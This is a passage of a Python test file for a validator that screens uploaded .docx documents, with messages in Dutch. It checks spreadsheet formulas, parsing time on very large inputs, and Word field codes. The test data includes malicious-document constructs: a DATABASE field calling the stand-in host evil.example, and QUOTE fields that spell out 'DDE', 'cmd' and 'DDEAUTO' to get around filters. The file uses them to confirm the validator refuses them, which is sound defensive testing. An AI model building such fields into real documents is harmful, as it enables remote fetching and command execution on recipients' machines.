        "{1;2|3;4}+IF(A1,#REF!,RECALL(1))",
    ],
)
def test_ordinary_formula_of_a_workbook_is_taken(formula):
    part = f"<c><f>{formula}</f></c>".encode()

    assert check_document(upload("verslag.docx", docx(**{"xl/a.xml": part}))) == "docx"


@pytest.mark.parametrize("piece", ["'", "a|'", '|"', "'!", "' "])
@pytest.mark.slow
def test_formula_of_megabytes_is_read_once(piece):
    part = b"<c><f>" + (piece * 400_001)[:400_001].encode() + b"</f></c>"
    began = process_time()

    with suppress(ValidationError):
        check_document(upload("verslag.docx", docx(**{"xl/a.xml": part})))

    assert process_time() - began < 3


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        (field(" DATABASE \\d &quot;https://evil.example&quot;"), "andere plaats"),
        (field(" ") + field(" QUOTE 68 68 69") + field(" cmd"), "macro"),
        (field("QUO", "TE &quot;D&quot; 68"), "macro"),
        (field(" ") + field(" QUOTE &quot;DDEAUTO&quot;"), "macro"),
    ],
)
def test_field_that_fetches_or_spells_another_is_refused(fields, words):
    with pytest.raises(ValidationError, match=words):
        check_document(upload("verslag.docx", docx(**{"word/a.xml": b"<d>" + fields + b"</d>"})))


def test_field_that_quotes_words_is_taken():
    words = field("PAGE") + field(" QUOTE &quot;2024 op school&quot;") + field("DATE")

    content = docx(**{"word/a.xml": b"<d>" + words + b"</d>"})

    assert check_document(upload("verslag.docx", content)) == "docx"
